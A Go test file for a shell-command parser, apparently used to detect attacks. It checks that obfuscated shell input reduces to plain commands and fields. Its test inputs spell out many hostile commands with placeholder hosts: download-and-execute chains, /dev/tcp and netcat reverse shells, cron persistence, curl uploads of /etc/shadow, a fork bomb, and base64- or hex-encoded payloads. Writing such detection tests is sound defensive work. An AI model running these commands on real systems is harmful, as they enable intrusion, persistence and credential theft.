package shell

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// Every way of writing a command comes out as the plain command.
func TestForms(t *testing.T) {
	for _, c := range []struct {
		text string
		want []string // Command.Line
	}{
		// Lists and pipelines.
		{"", nil},
		{" \t\n", nil},
		{"# wget http://x", nil},
		{"uname -a", lines("uname -a")},
		{"cd /tmp||cd /var/run;wget http://x/a.sh;chmod 777 a.sh;sh a.sh", lines("cd /tmp", "cd /var/run", "wget http://x/a.sh", "chmod 777 a.sh", "sh a.sh")},
		{"a && b || c & d | e |& f\ng", lines("a", "b", "c", "d", "e", "f", "g")},
		{">/tmp/x && cd /tmp", lines("", "cd /tmp")},
		{">/tmp/.x;>/var/run/.x", lines("", "")},
		{"if true; then wget x; else curl y; fi", lines("true", "wget x", "curl y")},
		{"while read i; do echo $i; done < .s", lines("read i", "echo $i")},
		{"case $1 in a) wget x;; *) curl y;; esac", lines("wget x", "curl y")},
		{"f() { wget x; }; f", lines("wget x", "f")},
		{":(){ :|:& };:", lines(":", ":", ":")},
		{"(cd /tmp; ./x) && { id; }", lines("cd /tmp", "x", "id")},
		{"! grep -q x y", lines("grep -q x y")},
		{"time wget x", lines("wget x")},
		{"[ -f /x ] && rm -rf /x", lines("[ -f /x ]", "rm -rf /x")},
		{"enable\r\nsystem\r\nshell\r\n", lines("enable", "system", "shell")},

		// Quoting.
		{`w'g'et http://x`, lines("wget http://x")},
		{`w"g"et 'http://x'`, lines("wget http://x")},
		{`w\get htt\p://x`, lines("wget http://x")},
		{`\wget x`, lines("wget x")},
		{"wg\\\net x", lines("wget x")},
		{`'/usr/bin/'wget x`, lines("wget x")},
		{`"" x`, lines(" x")},
		{`echo "a \"b\" \$c \d"`, lines(`echo a "b" $c \d`)},
		{`$'\x77\x67\x65\x74' http://x`, lines("wget http://x")},
		{`$'\167get' x`, lines("wget x")},
		{`$'\u0077get' x`, lines("wget x")},
		{`$"wget" x`, lines("wget x")},
		{`wh$@oami`, lines("whoami")},
		{`c''a""t /etc/passwd`, lines("cat /etc/passwd")},

		// Wrappers.
		{"sudo wget x", lines("wget x")},
		{"sudo -u root -- wget x", lines("wget x")},
		{"sudo -Hiu root wget x", lines("wget x")},
		{"sudo --user=root A=b wget x", lines("wget x")},
		{"sudo --user root wget x", lines("wget x")},
		{"sudo -l", lines("sudo -l")},
		{"echo pw | sudo -S -p '' bash -c 'id'", lines("echo pw", "bash -c id", "id")},
		{"$SHELL -c 'wget x'", lines("$SHELL -c wget x", "wget x")},
		{`${SHELL} -c "wget x"`, lines("${SHELL} -c wget x", "wget x")},
		{"docker exec -it -u 0 web sh -c 'id; uname'", lines("docker exec -it -u 0 web sh -c id; uname", "sh -c id; uname", "id", "uname")},
		{"docker run --rm -v /:/h --name x alpine chroot /h id", lines("docker run --rm -v /:/h --name x alpine chroot /h id", "id")},
		{"docker run -d --entrypoint sh alpine -c 'wget x'", lines("docker run -d --entrypoint sh alpine -c wget x", "sh -c wget x", "wget x")},
		{"docker run -d nginx", lines("docker run -d nginx")},
		{"docker ps", lines("docker ps")},
		{"podman exec c1 cat /etc/passwd", lines("podman exec c1 cat /etc/passwd", "cat /etc/passwd")},
		{"docker compose exec db env", lines("docker compose exec db env", "env")},
		{"kubectl -n kube exec pod-1 -c web -- sh -c 'id'", lines("kubectl -n kube exec pod-1 -c web -- sh -c id", "sh -c id", "id")},
		{"kubectl exec pod-1 id", lines("kubectl exec pod-1 id")},
		{"lxc exec c1 -- id", lines("lxc exec c1 -- id", "id")},
		{"ip netns exec ns1 curl x", lines("ip netns exec ns1 curl x", "curl x")},
		{"ip route", lines("ip route")},
		{"sudo su", lines("su")},
		{"sudo -u root env A=b wget x", lines("wget x")},
		{"doas -u root wget x", lines("wget x")},
		{"env", lines("env")},
		{"env A=b", lines("env A=b")},
		{"env -i A=b wget x", lines("wget x")},
		{"env -S 'wget x' y", lines("wget x y")},
		{"nohup ./x &", lines("x")},
		{"nohup setsid nice -n 19 ionice -c 3 wget x", lines("wget x")},
		{"nice -19 wget x", lines("wget x")},
		{"timeout -k 5 10 wget x", lines("wget x")},
		{"timeout -s KILL 10 wget x", lines("wget x")},
		{"stdbuf -oL wget x", lines("wget x")},
		{"stdbuf -o L wget x", lines("wget x")},
		{"exec -a kworker ./x", lines("x")},
		{"command wget x", lines("wget x")},
		{"command -v wget", lines("command -v wget")},
		{"builtin echo x", lines("echo x")},
		{"/bin/busybox wget x", lines("wget x")},
		{"busybox", lines("busybox")},
		{"busybox --install", lines("busybox --install")},
		{"/bin/busybox ECCHI", lines("ECCHI")},
		{"/bin/busybox nohup /bin/busybox wget x", lines("wget x")},
		{"echo x | xargs -n 1 -I{} wget {}", lines("echo x", "wget {}")},
		{"xargs", lines("xargs")},
		{"chroot /mnt wget x", lines("wget x")},
		{"unshare -m wget x", lines("wget x")},
		{"nsenter -t 1 -m -u -- wget x", lines("wget x")},
		{"nsenter --target 1 --mount wget x", lines("wget x")},
		{"flock -n /tmp/l wget x", lines("wget x")},
		{"proxychains4 -q curl x", lines("curl x")},
		{"watch -n 1 wget x", lines("wget x")},
		{"taskset -c 0 ./x", lines("x")},
		{"strace -f -o /tmp/o id", lines("id")},

		// Commands in arguments.
		{"sh -c 'wget x; id'", lines("sh -c wget x; id", "wget x", "id")},
		{`bash -lc "wget x"`, lines("bash -lc wget x", "wget x")},
		{"bash -o pipefail -c 'wget x'", lines("bash -o pipefail -c wget x", "wget x")},
		{"/bin/busybox sh -c 'wget x'", lines("sh -c wget x", "wget x")},
		{"su - root -c 'wget x'", lines("su - root -c wget x", "wget x")},
		{"su root --command='wget x'", lines("su root --command=wget x", "wget x")},
		{"eval wget x", lines("eval wget x", "wget x")},
		{`eval "wget x;" id`, lines("eval wget x; id", "wget x", "id")},
		{"trap 'rm -f /tmp/x' EXIT", lines("trap rm -f /tmp/x EXIT", "rm -f /tmp/x")},
		{"watch 'wget x'", lines("watch wget x", "wget x")},
		{"script -qc 'wget x' /dev/null", lines("script -qc wget x /dev/null", "wget x")},
		{"flock /tmp/l -c 'wget x'", lines("flock /tmp/l -c wget x", "wget x")},
		{`find / -name x -exec rm -f {} \; -exec cp {} /tmp +`, lines("find / -name x -exec rm -f {} ; -exec cp {} /tmp +", "rm -f {}", "cp {} /tmp")},
		{"find . -exec sh -c 'wget x' \\;", lines("find . -exec sh -c wget x ;", "sh -c wget x", "wget x")},
		{"screen -dmS x wget y", lines("screen -dmS x wget y", "wget y")},
		{"screen -dmS x bash -c 'wget y'", lines("screen -dmS x bash -c wget y", "bash -c wget y", "wget y")},
		{"tmux new-session -d -s x 'wget y'", lines("tmux new-session -d -s x wget y", "wget y")},
		{"ssh -p 22 root@h 'wget x; id'", lines("ssh -p 22 root@h wget x; id", "wget x", "id")},
		{"ssh h uname -a", lines("ssh h uname -a", "uname -a")},
		{`python3 -c 'import os; os.system("wget x")'`, lines(`python3 -c import os; os.system("wget x")`, "wget x")},
		{`python -c 'import subprocess as s; s.call(["wget", "a b"])'`, lines(`python -c import subprocess as s; s.call(["wget", "a b"])`, "wget a b")},
		{`python -c 'import pty; pty.spawn("/bin/bash")'`, lines(`python -c import pty; pty.spawn("/bin/bash")`, "bash")},
		{`perl -e 'exec "/bin/sh"'`, lines(`perl -e exec "/bin/sh"`, "sh")},
		{`awk 'BEGIN {system("id")}'`, lines(`awk BEGIN {system("id")}`, "id")},
		{`python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"`,
			lines(`python3 -c import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))`, "id")},
		{`perl -MMIME::Base64 -e 'system(decode_base64("aWQ="))'`, lines(`perl -MMIME::Base64 -e system(decode_base64("aWQ="))`, "id")},
		{"(crontab -l; echo '* * * * * wget x') | crontab -", lines("crontab -l", "echo * * * * * wget x", "crontab -", "wget x")},
		{"echo '*/5 * * * * wget x|sh' | crontab -", lines("echo */5 * * * * wget x|sh", "crontab -", "wget x", "sh")},
		{"echo '@reboot /tmp/x' | crontab -", lines("echo @reboot /tmp/x", "crontab -", "x")},
		{"echo id | at now", lines("echo id", "at now", "id")},

		// Texts that a shell reads.
		{"echo wget x | sh", lines("echo wget x", "sh", "wget x")},
		{"echo 'wget x' | sudo bash -s", lines("echo wget x", "bash -s", "wget x")},
		{"bash <<< 'wget x'", lines("bash", "wget x")},
		{"sh <<EOF\nwget x\nid\nEOF", lines("sh", "wget x", "id")},
		{"sh <<'EOF'\nA=$B\nEOF", lines("sh", "")},
		{"cat <<EOF | bash\nwget $U/a\nEOF", lines("cat", "bash", "wget $U/a")},
		{"cat <<-EOF | bash\n\twget x\n\tEOF", lines("cat", "bash", "wget x")},
		{"echo 'wget x' > /tmp/z; sh /tmp/z", lines("echo wget x", "sh /tmp/z", "wget x")},
		{"echo wget x>/tmp/z;echo id>>/tmp/z;cd /tmp;chmod +x z;./z", lines("echo wget x", "echo id", "cd /tmp", "chmod +x z", "z", "wget x", "id")},
		{"echo 'wget x' | tee /tmp/z; . /tmp/z", lines("echo wget x", "tee /tmp/z", ". /tmp/z", "wget x")},
		{"cat > /tmp/z <<E\n#!/bin/sh\nwget x\nE", lines("cat", "wget x")},
		{"bash -c \"$(curl -fsSL http://x)\"", lines("bash -c $(curl -fsSL http://x)", "curl -fsSL http://x")},
		{"bash <(curl http://x)", lines("bash <(curl http://x)", "curl http://x")},
		{"echo $(wget x)", lines("echo $(wget x)", "wget x")},
		{"echo `wget x`", lines("echo `wget x`", "wget x")},
		{"echo \"`echo \\`id\\``\"", lines("echo `echo \\`id\\``", "echo `id`", "id")},
		{"echo $((1 + $(id -u)))", lines("echo $((1 + $(id -u)))", "id -u")},
		{"echo ${x:-$(id)}", lines("echo ${x:-$(id)}", "id")},
		{"x=$(wget y)", lines("", "wget y")},
		{"a=($(id))", lines("", "id")},
		{"[[ -n $(id) ]]", lines("id")},
		{"tee >(sh) < x", lines("tee >(sh)", "sh")},

		// Variables and expansions.
		{"A=wget; $A http://x/$B", lines("", "wget http://x/$B")},
		{"A=wget B=x; ${A} $B", lines("", "wget x")},
		{"c='wget x'; $c", lines("", "wget x")},
		{`c='wget x'; "$c"`, lines("", "wget x")},
		{"a=w; b=get; $a$b x", lines("", "", "wget x")},
		{"a=w; a+=get; $a x", lines("", "", "wget x")},
		{"export A=wget; $A x", lines("export A=wget", "wget x")},
		{"declare -x A=wget; $A x", lines("declare -x A=wget", "wget x")},
		{"cat${IFS}/etc/passwd", lines("cat /etc/passwd")},
		{"cat$IFS$9/etc/passwd", lines("cat /etc/passwd")},
		{"IFS=,;b=wget,http://x;$b", lines("", "", "wget http://x")},
		{"a=(w g e t);${a[0]}${a[1]}${a[2]}${a[3]} x", lines("", "wget x")},
		{"a=(wget x);${a[@]}", lines("", "wget x")},
		{"x=Xwget; ${x#X} y; ${x:1:4} z", lines("", "wget y", "wget z")},
		{"x=wXgXeXt; ${x//X/} y", lines("", "wget y")},
		{"x=WGET; ${x,,} y", lines("", "wget y")},
		{"${u:-wget} x", lines("wget x")},
		{"${PATH:0:1}bin${PATH:0:1}ls", lines("ls")},
		{"read a <<< wget; $a x", lines("read a", "wget x")},
		{"printf -v a %s wget; $a x", lines("printf -v a %s wget", "wget x")},
		{"A=wget; unset A; $A x", lines("", "unset A", "$A x")},
		{"A=$(hostname); $A x", lines("", "hostname", "$A x")},
		{"$HOME/bin/x y", lines("x y")},
		{"for i in a; do wget $i; done", lines("wget a")},
		{"for i in a b; do wget $i; done", lines("wget $i")},
		{"{wget,http://x}", lines("wget http://x")},
		{"echo {a,b}{c,d}", lines("echo ac ad bc bd")},
		{"echo {a..c} {x} {} a{,b}", lines("echo a b c {x} {} a ab")},
		{"echo '{a,b}' \"{c,d}\"", lines("echo {a,b} {c,d}")},
		{"/???/c?t /etc/passwd", lines("c?t /etc/passwd")},
		{"$(echo wget) x", lines("wget x", "echo wget")},
		{"`echo wget` x", lines("wget x", "echo wget")},
		{"$(printf w)get x", lines("wget x", "printf w")},

		// Encodings.
		{"$(echo d2hvYW1p|base64 -d)", lines("whoami", "echo d2hvYW1p", "base64 -d")},
		{"echo d2dldCB4|base64 -d|sh", lines("echo d2dldCB4", "base64 -d", "sh", "wget x")},
		{"echo d2dldCB4|base64 --decode|bash", lines("echo d2dldCB4", "base64 --decode", "bash", "wget x")},
		{"base64 -d <<< d2dldCB4 | sh", lines("base64 -d", "sh", "wget x")},
		{"printf d2dldCB4 | openssl base64 -d | sh", lines("printf d2dldCB4", "openssl base64 -d", "sh", "wget x")},
		{"echo d2dldCB4 | openssl enc -base64 -d -A | sh", lines("echo d2dldCB4", "openssl enc -base64 -d -A", "sh", "wget x")},
		{`bash -c "{echo,Y3VybA==}|{base64,-d}|bash"`, lines("bash -c {echo,Y3VybA==}|{base64,-d}|bash", "echo Y3VybA==", "base64 -d", "bash", "curl")},
		{`bash -c "{echo,d2dldCB4}|{base64,-d}|{bash,-i}"`, lines("bash -c {echo,d2dldCB4}|{base64,-d}|{bash,-i}", "echo d2dldCB4", "base64 -d", "bash -i", "wget x")},
		{`eval "$(echo d2dldCB4 | base64 -d)"`, lines("eval wget x", "echo d2dldCB4", "base64 -d", "wget x")},
		{"bash -c \"`echo d2dldCB4|base64 -d`\"", lines("bash -c wget x", "echo d2dldCB4", "base64 -d", "wget x")},
		{"echo d2dldCB4 > /tmp/b; base64 -d /tmp/b | sh", lines("echo d2dldCB4", "base64 -d /tmp/b", "sh", "wget x")},
		{"echo d2dldCB4 | base64 -d > /tmp/b; sh /tmp/b", lines("echo d2dldCB4", "base64 -d", "sh /tmp/b", "wget x")},
		{"echo ZDJkbGRDQjQ= | base64 -d | base64 -d | sh", lines("echo ZDJkbGRDQjQ=", "base64 -d", "base64 -d", "sh", "wget x")},
		{"echo O5TWK5BAPA====== | base32 -d | sh", lines("echo O5TWK5BAPA======", "base32 -d", "sh", "wget x")},
		{`echo -e "\x77\x67\x65\x74 x" | sh`, lines(`echo -e \x77\x67\x65\x74 x`, "sh", "wget x")},
		{`echo -ne '\0167get x' | sh`, lines(`echo -ne \0167get x`, "sh", "wget x")},
		{`printf '\x77get x' | sh`, lines(`printf \x77get x`, "sh", "wget x")},
		{`printf '%s %s\n' wget x | sh`, lines(`printf %s %s\n wget x`, "sh", "wget x")},
		{`printf '%b' '\167get x' | sh`, lines(`printf %b \167get x`, "sh", "wget x")},
		{"echo 776765742078 | xxd -r -p | sh", lines("echo 776765742078", "xxd -r -p", "sh", "wget x")},
		{"xxd -r -ps <<< 776765742078 | sh", lines("xxd -r -ps", "sh", "wget x")},
		{"echo 'x tegw' | rev | sh", lines("echo x tegw", "rev", "sh", "wget x")},
		{"echo jtrg k | tr a-z n-za-m | sh", lines("echo jtrg k", "tr a-z n-za-m", "sh", "wget x")},
		{"echo wXgXeXt x | tr -d X | sh", lines("echo wXgXeXt x", "tr -d X", "sh", "wget x")},
		{"echo w@g@e@t x | sed s/@//g | sh", lines("echo w@g@e@t x", "sed s/@//g", "sh", "wget x")},

		// What is no valid shell.
		{"wget x; echo 'torn", lines("wget x", "echo torn")},
		{`wget x; echo "torn; id`, lines("wget x", "echo torn; id")},
		{"if true; then wget x", lines("true", "wget x")},
		{"wget x &&", lines("wget x")},
		{"wget x | ", lines("wget x")},
		{"wget x; )", lines("wget x")},
		{"a ;; wget x", lines("a", "wget x")},
		{"echo $(wget x", lines("echo $(wget x", "wget x")},
		{"wget x; cat <<EOF\nbody", lines("wget x", "cat")},
		{"done; wget x", lines("wget x")},
		{"}; wget x", lines("wget x")},
		{"f( ; wget x", lines("f", "wget x")},
		{"\x00\x00\x00wget x", lines("wget x")},
		{"wget x\xff\xfe; id", lines("wget x\xff\xfe", "id")},
	} {
		p := NewParser(Limits{})
		p.panics = true
		s := p.Parse(c.text)
		checkScript(t, c.text, s)
		checkProcesses(t, c.text, s)
		var got []string
		for i := range s.Commands {
			got = append(got, s.Commands[i].Line)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%q:\ngot  %q\nwant %q", c.text, got, c.want)
		}
	}
}

func lines(l ...string) []string { return l }

// show writes the fields of a command that are set, in a fixed order.
func show(c *Command) string {
	var b strings.Builder
	b.WriteString(c.Line)
	if c.Path != c.Program {
		fmt.Fprintf(&b, " path=%s", c.Path)
	}
	for _, f := range []struct {
		name string
		list []string
	}{
		{"flags", c.Flags}, {"operands", c.Operands}, {"wrappers", c.Wrappers}, {"assigns", c.Assigns}, {"reads", c.Reads}, {"writes", c.Writes},
		{"urls", c.URLs}, {"to", c.PipesTo}, {"from", c.PipedFrom}, {"doc", c.Heredocs},
	} {
		if len(f.list) > 0 {
			fmt.Fprintf(&b, " %s=%s", f.name, strings.Join(f.list, "|"))
		}
	}
	if c.Background {
		b.WriteString(" background")
	}
	if c.Depth > 0 {
		fmt.Fprintf(&b, " depth=%d", c.Depth)
	}
	return b.String()
}

func TestFields(t *testing.T) {
	for _, c := range []struct {
		text string
		want []string
	}{
		{"sudo -u root env A=b /usr/bin/wget -qO- 'http://x/a.sh' 2>/dev/null | sh > /tmp/o &", lines(
			"wget -qO- http://x/a.sh path=/usr/bin/wget flags=q|O operands=http://x/a.sh wrappers=sudo|env assigns=A=b writes=/dev/null urls=http://x/a.sh to=sh background",
			"sh writes=/tmp/o from=wget background")},
		{"(wget -O- a.com/x || curl b.com/x) | sh", lines(
			"wget -O- a.com/x flags=O operands=a.com/x urls=a.com/x to=sh",
			"curl b.com/x operands=b.com/x urls=b.com/x to=sh",
			"sh from=wget|curl")},
		// An option's value may be attached: its letters are no options.
		{"curl -XPOST -so/tmp/a h.com", lines("curl -XPOST -so/tmp/a h.com flags=X|XPOST|s|o operands=h.com writes=/tmp/a urls=h.com")},
		{"ssh -fNoUserKnownHostsFile=x h", lines("ssh -fNoUserKnownHostsFile=x h flags=f|N|o|fNoUserKnownHostsFile operands=h")},
		{"a | b | c", lines("a to=b|c", "b to=c from=a", "c from=a|b")},
		{"cat x | sh -c 'grep y | sort' | nc h 1", lines(
			"cat x operands=x reads=x to=sh|grep|sort|nc",
			"sh -c grep y | sort flags=c operands=grep y | sort to=nc from=cat",
			"grep y operands=y wrappers=sh to=sort|nc from=cat depth=1",
			"sort wrappers=sh to=nc from=cat|grep depth=1",
			"nc h 1 operands=h|1 from=cat|sh|grep|sort")},
		{"echo id | sh | nc h 1", lines(
			"echo id operands=id to=sh|nc", "sh to=nc from=echo", "id wrappers=sh to=nc depth=1", "nc h 1 operands=h|1 from=echo|sh")},
		{"bash -c \"$(curl http://x)\"", lines(
			"bash -c $(curl http://x) flags=c operands=$(curl http://x) urls=http://x from=curl",
			"curl http://x operands=http://x urls=http://x to=bash depth=1")},
		{"source <(curl http://x)", lines(
			"source <(curl http://x) operands=<(curl http://x) reads=<(curl http://x) urls=http://x from=curl",
			"curl http://x operands=http://x urls=http://x to=source depth=1")},
		{"bash < <(curl http://x)", lines("bash reads=<(curl http://x) from=curl", "curl http://x operands=http://x urls=http://x to=bash depth=1")},
		{"while read i; do wget $i; done < urls > log", lines("read i operands=i reads=urls writes=log", "wget $i operands=$i reads=urls writes=log")},
		{"nohup sh -c 'wget x' >/dev/null 2>&1 &", lines(
			"sh -c wget x flags=c operands=wget x wrappers=nohup writes=/dev/null background",
			"wget x operands=x wrappers=nohup|sh background depth=1")},
		{"setsid ./x", lines("x path=./x wrappers=setsid background")},
		{"coproc nc h 1", lines("nc h 1 operands=h|1 background")},
		{"{ a; b; } &", lines("a background", "b background")},
		{"bash -i >& /dev/tcp/1.2.3.4/80 0>&1", lines("bash -i flags=i writes=/dev/tcp/1.2.3.4/80")},
		{"exec 5<>/dev/tcp/1.2.3.4/80", lines("exec reads=/dev/tcp/1.2.3.4/80 writes=/dev/tcp/1.2.3.4/80")},
		{"a &> x; b &>> y; c >| z", lines("a writes=x", "b writes=y", "c writes=z")},
		{"cat > x <<E\nbody\nE", lines("cat writes=x doc=body")},
		{"grep -i root /etc/passwd /etc/group", lines("grep -i root /etc/passwd /etc/group flags=i operands=root|/etc/passwd|/etc/group reads=/etc/passwd|/etc/group")},
		{"grep -e root /etc/passwd", lines("grep -e root /etc/passwd flags=e operands=root|/etc/passwd reads=/etc/passwd")},
		{"head -n 5 /etc/shadow", lines("head -n 5 /etc/shadow flags=n operands=5|/etc/shadow reads=/etc/shadow")},
		{"awk -F: '{print $1}' /etc/passwd", lines("awk -F: {print $1} /etc/passwd flags=F operands={print $1}|/etc/passwd reads=/etc/passwd")},
		{"sed -n 1p /etc/passwd", lines("sed -n 1p /etc/passwd flags=n operands=1p|/etc/passwd reads=/etc/passwd")},
		{"sed -i s/a/b/ /etc/passwd", lines("sed -i s/a/b/ /etc/passwd flags=i operands=s/a/b/|/etc/passwd writes=/etc/passwd")},
		{"dd if=/proc/self/exe of=/tmp/x bs=22", lines("dd if=/proc/self/exe of=/tmp/x bs=22 operands=if=/proc/self/exe|of=/tmp/x|bs=22 reads=/proc/self/exe writes=/tmp/x")},
		{"cp -f /bin/sh /tmp/x", lines("cp -f /bin/sh /tmp/x flags=f operands=/bin/sh|/tmp/x reads=/bin/sh writes=/tmp/x")},
		{"mv a b c/", lines("mv a b c/ operands=a|b|c/ writes=c/")},
		{"cp -t /tmp a", lines("cp -t /tmp a flags=t operands=/tmp|a reads=a writes=/tmp")},
		{"tee -a /etc/passwd", lines("tee -a /etc/passwd flags=a operands=/etc/passwd writes=/etc/passwd")},
		{"touch -r /bin/ls /tmp/x", lines("touch -r /bin/ls /tmp/x flags=r operands=/bin/ls|/tmp/x writes=/tmp/x")},
		{"wget http://x/a -O /tmp/a", lines("wget http://x/a -O /tmp/a flags=O operands=http://x/a|/tmp/a writes=/tmp/a urls=http://x/a")},
		{"wget -P/tmp http://x/a", lines("wget -P/tmp http://x/a flags=P operands=http://x/a writes=/tmp urls=http://x/a")},
		{"curl -so/tmp/a 1.2.3.4/a", lines("curl -so/tmp/a 1.2.3.4/a flags=s|o operands=1.2.3.4/a writes=/tmp/a urls=1.2.3.4/a")},
		{"curl --output /tmp/a --url=http://x", lines("curl --output /tmp/a --url=http://x flags=output|url operands=/tmp/a writes=/tmp/a urls=http://x")},
		{"curl -F f=@/etc/passwd -d @/etc/shadow -T /etc/group http://x", lines("curl -F f=@/etc/passwd -d @/etc/shadow -T /etc/group http://x flags=F|d|T operands=f=@/etc/passwd|@/etc/shadow|/etc/group|http://x reads=/etc/passwd|/etc/shadow|/etc/group urls=http://x")},
		{"scp -P 22 /etc/passwd root@h:/tmp", lines("scp -P 22 /etc/passwd root@h:/tmp flags=P operands=22|/etc/passwd|root@h:/tmp reads=/etc/passwd writes=root@h:/tmp urls=root@h:/tmp")},
		{"scp -t /tmp/x", lines("scp -t /tmp/x flags=t operands=/tmp/x writes=/tmp/x")},
		{"tar xzf a.tgz", lines("tar xzf a.tgz flags=x|z|f operands=xzf|a.tgz")},
		{"find / -name x", lines("find / -name x flags=n|a|m|e|name operands=/|x")},
		{"rm -rf -- -x", lines("rm -rf -- -x flags=r|f|rf operands=-x")},
		{"export http_proxy=http://x", lines("export http_proxy=http://x operands=http_proxy=http://x assigns=http_proxy=http://x urls=http://x")},
		{"A=1 B='2 3' x", lines("x assigns=A=1|B=2 3")},
		{"A=$B/x", lines(" assigns=A=$B/x")},
	} {
		p := NewParser(Limits{})
		p.panics = true
		s := p.Parse(c.text)
		checkScript(t, c.text, s)
		checkProcesses(t, c.text, s)
		var got []string
		for i := range s.Commands {
			got = append(got, show(&s.Commands[i]))
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%q:\ngot  %s\nwant %s", c.text, strings.Join(got, "\n     "), strings.Join(c.want, "\n     "))
		}
	}
}
